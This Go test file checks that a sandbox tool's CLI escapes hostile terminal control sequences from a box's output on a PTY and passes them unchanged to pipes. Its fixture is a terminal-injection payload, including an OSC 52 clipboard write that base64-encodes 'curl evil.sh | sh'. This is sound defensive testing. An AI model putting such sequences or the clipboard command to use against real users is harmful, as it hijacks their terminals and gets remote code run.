package cli

import (
	"bytes"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"
)

// hostileOutput is what code in a box prints to take over the terminal
// of the user who runs it: an OSC 52 clipboard write, a window title, the
// screen cleared and text hidden, a cursor move and a CSI in its 8-bit
// (C1) form, cut at every byte boundary to show the escaping holds across
// writes.
const hostileOutput = "ok \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" + "\x1b]0;pwned\x1b\\" + "\x1b[2J\x1b[8m" +
	"hidden\x1b[1;1H\u009b31m" + "caf\u00e9 \u4e16\u754c line\r\nnext\r"

// readPTY closes the terminal's slave side and returns what reached its
// master side (read until the kernel reports the slave gone, at most 10 s).
func readPTY(t *testing.T, ptm, pts *os.File) string {
	t.Helper()
	pts.Close()
	var got bytes.Buffer
	done := make(chan struct{})
	go func() { got.ReadFrom(ptm); close(done) }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		ptm.Close()
		<-done
	}
	return got.String()
}

// TestHostileGuestTerminalEscapes: box output that `exec`, `run`, `logs`
// and `top` print goes through terminalSafe. On a real terminal (a PTY)
// no control byte of the box's arrives: ESC, BEL, the C1 CSI and a lone CR
// come as \xNN text, while text, UTF-8 (also cut between two writes) and
// CRLF line ends stay readable. A pipe gets the box's bytes unchanged.
func TestHostileGuestTerminalEscapes(t *testing.T) {
	ptm, pts, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminal: %v", err)
	}
	defer ptm.Close()
	defer pts.Close()
	w, flush := terminalSafe(pts)
	for i := 0; i < len(hostileOutput); i++ { // one byte a write: every cut
		if n, err := w.Write([]byte{hostileOutput[i]}); n != 1 || err != nil {
			t.Fatalf("write: %d, %v", n, err)
		}
	}
	if err := flush(); err != nil {
		t.Fatal(err)
	}
	got := readPTY(t, ptm, pts)
	// The terminal's line discipline turns \n into \r\n (onlcr): drop those.
	text := strings.ReplaceAll(got, "\r\n", "\n")
	if i := strings.IndexFunc(text, func(r rune) bool { return r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 }); i >= 0 {
		t.Errorf("a control byte %q of the box's reached the terminal: %q", text[i], got)
	}
	want := `ok \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x1b\\x1b[2J\x1b[8mhidden\x1b[1;1H\xc2\x9b31mcafé 世界 line` + "\nnext" + `\x0d`
	if text != want {
		t.Errorf("terminal shows\n%q\nwant\n%q", text, want)
	}

	// A pipe (or file) gets the bytes unchanged, with no flush needed.
	r, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	pipeW, _ := terminalSafe(pw)
	go func() { io.WriteString(pipeW, hostileOutput); pw.Close() }()
	raw, _ := io.ReadAll(r)
	if string(raw) != hostileOutput {
		t.Errorf("a pipe got %q, want the box's bytes %q", raw, hostileOutput)
	}
}

// TestHostileGuestLogsEscaped: `airlock logs` prints the main command's
// log (what the box wrote) through the same escaping: on a terminal an
// entry's escape sequence arrives as text, each stream on its own writer.
func TestHostileGuestLogsEscaped(t *testing.T) {
	ptm, pts, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminal: %v", err)
	}
	defer ptm.Close()
	defer pts.Close()
	out, flush := terminalSafe(pts)
	var errb bytes.Buffer
	writeEntries(out, &errb, []logEntry{{Stream: "stdout", Log: "a\x1b]52;c;ZXZpbA==\x07\n"}, {Stream: "stderr", Log: "e\x1b[2J\n"}}, false)
	flush()
	if got := strings.ReplaceAll(readPTY(t, ptm, pts), "\r\n", "\n"); got != `a\x1b]52;c;ZXZpbA==\x07`+"\n" {
		t.Errorf("terminal got %q", got)
	}
	if errb.String() != "e\x1b[2J\n" {
		t.Errorf("stderr (a buffer, no terminal) got %q, want it unchanged", errb.String())
	}
}
